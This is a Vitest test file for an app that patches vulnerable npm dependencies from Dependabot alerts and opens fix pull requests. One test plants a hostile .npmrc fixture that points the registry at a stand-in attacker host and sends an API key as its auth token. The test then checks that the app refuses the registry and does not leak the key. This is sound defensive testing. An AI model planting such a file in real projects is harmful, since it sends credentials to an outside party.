import { existsSync, readFileSync } from "node:fs";
import path from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { createDependencyPatchers } from "../../src/pipeline/dependency-patchers.js";
import { createTestApp, type TestApp } from "../harness/create-test-app.js";
import { noConfig } from "../harness/github-fixtures.js";
import { mockGitHub, requests, resetGitHubMock, useStrictGitHub } from "../helpers/github-mock.js";
import { exampleWebhook } from "../helpers/webhook-examples.js";
import { FIXTURES, installedEntries, lockPackages, npmResult, serveRecordedRegistry } from "../patch/deps/npm/npm-fixtures.js";

useStrictGitHub();

const OWNER = "wolfy1339";
const REPO = "pika-pack";
const BASE = "1".repeat(40);

let app: TestApp;
afterEach(async () => {
  await app.close();
});

/** GitHub's example alert, on a range the recorded fixture can fix (7.5.4 → 7.6.1, which drops lru-cache). */
async function openAlert(env: NodeJS.ProcessEnv = {}) {
  app = await createTestApp({ dependencyPatcher: createDependencyPatchers(env) });
  const payload = exampleWebhook("dependabot_alert", "created");
  const vulnerability = { ...payload.alert.security_vulnerability, vulnerable_version_range: ">= 7.0.0, < 7.6.1", first_patched_version: { identifier: "7.6.1" } };
  const alert = { ...payload.alert, security_vulnerability: vulnerability };
  const github = mockGitHub();
  noConfig(github, OWNER, REPO);
  github.get(`/repos/${OWNER}/${REPO}/dependabot/alerts/20`).reply(200, alert);
  await app.probot.receive({ id: "npm-1", name: "dependabot_alert", payload: { ...payload, alert } } as never);
  await app.worker.runUntilIdle();
  app.clock.advance(15_000);
  resetGitHubMock();
  return github;
}

/** The repository at the base commit is the fixture folder, read through the contents API. */
function serveRepository(github: ReturnType<typeof mockGitHub>, fixture: string, extra: Record<string, string> = {}) {
  github
    .get(new RegExp(`^/repos/${OWNER}/${REPO}/contents/`))
    .query({ ref: BASE })
    .reply(function (uri) {
      const file = decodeURIComponent(new URL(uri, "https://api.github.com").pathname.split("/contents/")[1]!);
      if (file in extra) return [200, extra[file], { "content-type": "text/plain" }];
      const local = path.join(FIXTURES, fixture, file);
      return existsSync(local) ? [200, readFileSync(local, "utf8"), { "content-type": "text/plain" }] : [404, { message: "Not Found" }];
    })
    .persist();
}

describe("an npm alert, end to end with the real patcher", () => {
  it("commits package.json and a lockfile that resolves like npm's own, and opens the PR", async () => {
    const github = await openAlert();
    const registry = serveRecordedRegistry();
    noConfig(github, OWNER, REPO);
    github.get(`/repos/${OWNER}/${REPO}/branches/master`).reply(200, { commit: { sha: BASE, commit: { tree: { sha: "2".repeat(40) } } } });
    github.get(`/repos/${OWNER}/${REPO}/pulls`).query(true).reply(200, []);
    serveRepository(github, "direct-styles");
    let tree: { tree: { path: string; content: string }[] } | undefined;
    github.post(`/repos/${OWNER}/${REPO}/git/trees`, (body) => ((tree = body), true)).reply(201, { sha: "3".repeat(40) });
    github.post(`/repos/${OWNER}/${REPO}/git/commits`).reply(201, { sha: "4".repeat(40) });
    github.post(`/repos/${OWNER}/${REPO}/git/refs`).reply(201, {});
    let pull: { title: string; body: string; head: string } | undefined;
    github
      .post(`/repos/${OWNER}/${REPO}/pulls`, (body) => ((pull = body), true))
      .reply(201, { number: 11, html_url: "https://github.com/x/y/pull/11", head: { sha: "4".repeat(40), ref: "secfix/npm/semver-7.6.1" }, user: { login: "secfix[bot]" }, state: "open" });
    github.post(`/repos/${OWNER}/${REPO}/issues/11/labels`).reply(200, []);
    github.post(`/repos/${OWNER}/${REPO}/check-runs`).reply(201, { id: 1 });
    await app.worker.runUntilIdle();

    const files = Object.fromEntries(tree!.tree.map((entry) => [entry.path, entry.content]));
    expect(Object.keys(files).sort()).toEqual(["package-lock.json", "package.json"]);
    expect(JSON.parse(files["package.json"]!).dependencies.semver).toBe("7.6.1");
    expect(installedEntries(lockPackages(files["package-lock.json"]!))).toEqual(installedEntries(npmResult("direct-styles", "semver")));
    expect(pull).toMatchObject({ head: "secfix/npm/semver-7.6.1", title: "fix(deps): bump semver from 7.5.4 to 7.6.1 [security]" });
    expect(pull!.body).toContain("`npm-direct`");
    expect(registry.requested).toEqual(["semver"]);
    const reads = requests.filter((r) => r.operationId === "repos/get-content" && r.url.includes("ref=")).length;
    expect(reads).toBeGreaterThan(0);
  });

  it("refuses a registry the operator did not allow, without contacting it or expanding secrets", async () => {
    const github = await openAlert({ OPENAI_API_KEY: "sk-proj-secretsecretsecretsecret" });
    noConfig(github, OWNER, REPO);
    github.get(`/repos/${OWNER}/${REPO}/branches/master`).reply(200, { commit: { sha: BASE, commit: { tree: { sha: "2".repeat(40) } } } });
    github.get(`/repos/${OWNER}/${REPO}/pulls`).query(true).reply(200, []);
    serveRepository(github, "direct-styles", {
      ".npmrc": "registry=https://registry.attacker.example/\n//registry.attacker.example/:_authToken=${OPENAI_API_KEY}\n",
    });
    // No interceptor exists for the attacker's host and net connect is off: any request would fail the test.
    await app.worker.runUntilIdle();

    const [attempt] = await app.store.read((reader) => reader.listFixAttempts({ repositoryId: 512875663 }));
    expect(attempt).toMatchObject({ state: "no_fix", pullRequest: null });
    expect(attempt!.reason).toMatch(/registry\.attacker\.example, which is not in SECFIX_NPM_REGISTRIES/);
    expect(JSON.stringify(await app.store.read((reader) => reader.listAuditEvents()))).not.toContain("sk-proj-secret");
  });
});
